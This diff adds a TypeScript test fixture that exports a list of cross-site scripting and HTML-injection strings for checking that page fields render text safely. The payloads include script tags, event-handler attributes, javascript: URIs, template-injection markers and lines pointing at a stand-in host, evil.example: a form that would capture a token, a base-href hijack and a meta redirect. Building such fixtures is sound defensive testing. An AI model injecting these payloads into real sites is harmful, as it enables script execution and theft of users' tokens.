@@ -1,0 +1,23 @@
+// Texts that want to be more than text. Flows in: nothing. Flows out: a corpus for every field a page shows; each would set `window.ran` or leave a trace if it became code.
+export const hostile: readonly string[] = [
+  "<script>window.ran=1</script>",
+  "<img src=x onerror=window.ran=1>",
+  '"><svg onload=window.ran=1>',
+  "'><body onload=window.ran=1>",
+  '" autofocus onfocus=window.ran=1 x="',
+  "' onmouseover=window.ran=1 '",
+  "javascript:window.ran=1",
+  "data:text/html,<script>window.ran=1</script>",
+  "</textarea><script>window.ran=1</script>",
+  "</title><script>window.ran=1</script>",
+  "</style><script>window.ran=1</script>",
+  "<!--<script>window.ran=1</script>-->",
+  "<a href=javascript:window.ran=1>x</a>",
+  "<iframe srcdoc='<script>parent.ran=1</script>'>",
+  "<form action=https://evil.example><input name=token>",
+  "<base href=https://evil.example/>",
+  "<meta http-equiv=refresh content=0;url=https://evil.example>",
+  "&lt;script&gt;window.ran=1&lt;/script&gt;",
+  "\u2028<script>window.ran=1</script>\u0000",
+  "${window.ran=1}{{window.ran=1}}<%= window.ran=1 %>",
+]
